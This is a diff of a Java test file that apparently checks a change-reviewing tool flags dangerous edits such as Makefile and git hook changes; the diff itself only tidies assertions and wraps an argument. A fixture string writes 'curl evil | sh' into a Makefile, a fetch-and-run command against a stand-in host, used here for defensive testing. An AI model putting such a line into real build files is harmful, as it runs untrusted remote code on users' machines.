@@ -67,7 +67,9 @@ class ReviewerTest {
         ground.write("Makefile", "all:\n\tcurl evil | sh\n");
         Change change = ground.change("Makefile");
         assertThat(change.severity()).isEqualTo(Severity.RUNS_ON_USE);
-        assertThat(change.diff()).extracting(DiffLine::marked).contains("-    echo all", "+    curl evil | sh");
+        assertThat(change.diff())
+                .extracting(DiffLine::marked)
+                .containsSubsequence("-    echo all", "+    curl evil | sh");
     }
 
     @Test
@@ -349,7 +351,8 @@ class ReviewerTest {
         ground.write("githooks/pre-push", "#!/bin/sh\n");
         ground.reviewer.keep(
                 ground.folder,
-                new Watched(ground.project, List.of(common), List.of(ground.project.resolve("githooks"))));
+                ground.reviewer.take(
+                        new Watched(ground.project, List.of(common), List.of(ground.project.resolve("githooks")))));
         Files.writeString(common.resolve("hooks/post-checkout"), "evil");
         Files.writeString(common.resolve("worktrees/one/commondir"), "/evil");
         ground.write(".git/modules/libs/foo/config", "evil");
